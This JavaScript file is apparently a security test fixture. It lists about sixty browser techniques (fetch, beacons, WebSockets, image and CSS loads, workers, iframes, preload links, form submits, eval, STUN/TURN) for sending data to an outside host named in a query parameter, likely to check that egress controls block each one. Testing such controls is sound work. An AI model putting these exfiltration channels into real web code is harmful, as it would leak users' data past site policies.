/**
 * Sixty ways in which code that has got into our own script could send something out. Each is given a host of its own
 * to reach, so that whatever is seen on the wire says which way it took. Appended to the built script, never imported.
 */
const put = (tag, props, into = document.body) => {
  const element = document.createElement(tag);
  Object.assign(element, props);
  into.append(element);
  return element;
};
const link = (rel, url, props = {}) => put("link", { rel, href: url, ...props }, document.head);
const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
const anchor = (href, props = {}) =>
  put("a", {
    href,
    textContent: "profile",
    id: "bait",
    style: "position:fixed;inset:0 auto auto 0;font-size:60px;z-index:99",
    ...props,
  });
const call = async (servers, maker = RTCPeerConnection) => {
  const peer = new maker({ iceServers: [servers] });
  peer.createDataChannel("d");
  await peer.setLocalDescription(await peer.createOffer());
};
const style = (text) => put("style", { textContent: text }, document.head);

globalThis.VECTORS = {
  fetch: (at) => fetch(`${at}/x`, { mode: "no-cors" }),
  fetchKeepalive: (at) => fetch(`${at}/x`, { mode: "no-cors", method: "POST", body: "d", keepalive: true }),
  fetchLater: (at) => fetchLater(`${at}/x`, { activateAfter: 0 }),
  xhr: (at) => {
    const asked = new XMLHttpRequest();
    asked.open("GET", `${at}/x`);
    asked.send();
  },
  beacon: (at) => navigator.sendBeacon(`${at}/x`, "d"),
  webSocket: (at) => new WebSocket(`${at.replace("http", "ws")}/x`),
  eventSource: (at) => new EventSource(`${at}/x`),
  webTransport: (at) => new WebTransport(`${at.replace("http", "https")}/x`).ready,
  image: (at) => (new Image().src = `${at}/x`),
  imageSet: (at) => put("img", { srcset: `${at}/x 1x` }),
  pictureSource: (at) => {
    const picture = put("picture", {});
    put("source", { srcset: `${at}/x` }, picture);
    put("img", { alt: "" }, picture);
  },
  inputImage: (at) => put("input", { type: "image", src: `${at}/x` }),
  svgImage: (at) => {
    const space = "http://www.w3.org/2000/svg";
    const drawing = document.createElementNS(space, "svg");
    const image = document.createElementNS(space, "image");
    image.setAttribute("href", `${at}/x`);
    image.setAttribute("width", "9");
    image.setAttribute("height", "9");
    drawing.append(image);
    document.body.append(drawing);
  },
  cssBackground: (at) => (document.body.style.backgroundImage = `url(${at}/x)`),
  cssCursor: (at) => (document.body.style.cursor = `url(${at}/x), auto`),
  cssContent: (at) => style(`body::after { content: url(${at}/x) }`),
  cssList: (at) => put("li", { style: `list-style-image: url(${at}/x)` }),
  cssSheet: (at) => link("stylesheet", `${at}/x.css`),
  cssImport: (at) => style(`@import url(${at}/x.css);`),
  cssConstructed: (at) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { border-image: url(${at}/x) 1 }`);
    document.adoptedStyleSheets = [sheet];
  },
  fontFace: (at) => {
    const face = new FontFace("bait", `url(${at}/x.woff2)`);
    document.fonts.add(face);
    return face.load();
  },
  script: (at) => put("script", { src: `${at}/x.js` }, document.head),
  scriptModule: (at) => put("script", { src: `${at}/x.mjs`, type: "module" }, document.head),
  dynamicImport: (at) => import(`${at}/x.js`),
  workerFetch: (at) => worker(`fetch("${at}/x", { mode: "no-cors" })`),
  workerImport: (at) => worker(`importScripts("${at}/x.js")`),
  workerSocket: (at) => worker(`new WebSocket("${at.replace("http", "ws")}/x")`),
  workerOwnHost: (at) => new Worker(`/w.js?at=${at}`),
  sharedWorkerOwnHost: (at) => new SharedWorker(`/w.js?at=${at}`),
  serviceWorker: (at) => navigator.serviceWorker.register(`/sw.js?at=${at}`),
  frame: (at) => put("iframe", { src: `${at}/x` }),
  frameText: (at) => put("iframe", { srcdoc: `<img src="${at}/x">` }),
  frameBlank: (at) => put("iframe", {}).contentWindow.fetch(`${at}/x`, { mode: "no-cors" }),
  object: (at) => put("object", { data: `${at}/x` }),
  embed: (at) => put("embed", { src: `${at}/x` }),
  video: (at) => put("video", { src: `${at}/x.mp4` }).load(),
  audio: (at) => put("audio", { src: `${at}/x.ogg`, preload: "auto" }).load(),
  videoPoster: (at) => put("video", { poster: `${at}/x` }),
  track: (at) => {
    const video = put("video", { crossOrigin: "anonymous" });
    put("track", { src: `${at}/x.vtt`, default: true }, video).track.mode = "showing";
  },
  icon: (at) => link("icon", `${at}/x.ico`),
  manifest: (at) => link("manifest", `${at}/x.webmanifest`),
  prefetch: (at) => link("prefetch", `${at}/x`),
  preload: (at) => link("preload", `${at}/x`, { as: "image" }),
  modulePreload: (at) => link("modulepreload", `${at}/x.js`),
  dnsPrefetch: (at) => link("dns-prefetch", at),
  preconnect: (at) => link("preconnect", at),
  anchorHover: (at) => void anchor(`${at}/x`),
  anchorPressed: (at) => void anchor(`${at}/x`),
  anchorClick: (at) => anchor(`${at}/x?d`).click(),
  anchorPing: (at) => anchor("#here", { ping: `${at}/ping` }).click(),
  anchorDownload: (at) => anchor(`${at}/x`, { download: "f" }).click(),
  windowOpen: (at) => window.open(`${at}/x?d`),
  navigation: (at) => (location.href = `${at}/x?d`),
  metaRefresh: (at) => put("meta", { httpEquiv: "refresh", content: `0;url=${at}/x` }, document.head),
  form: (at) => put("form", { action: `${at}/x` }).submit(),
  inlineHandler: (at) => (put("div", {}).innerHTML = `<img src="data:," onerror="new Image().src='${at}/x'">`),
  scriptUrl: (at) => anchor(`javascript:void(new Image().src='${at}/x')`).click(),
  evaluated: (at) => (0, eval)(`new Image().src = "${at}/x"`),
  stun: (at) => call({ urls: `${at.replace("http://", "stun:")}:3478` }),
  turn: (at) =>
    call({ urls: `${at.replace("http://", "turn:")}:3478?transport=tcp`, username: "stolen", credential: "d" }),
};

{
  const asked = new URLSearchParams(location.search);
  const way = globalThis.VECTORS[asked.get("way") ?? ""];
  const at = asked.get("at") ?? "";
  // Once the app stands: what got in would not be the first to run. The address is tidied by the app meanwhile.
  if (way !== undefined) {
    setTimeout(() => {
      globalThis.tried = "tried";
      new Promise((resolve) => resolve(way(at))).catch(() => undefined);
    }, 500);
  }
}
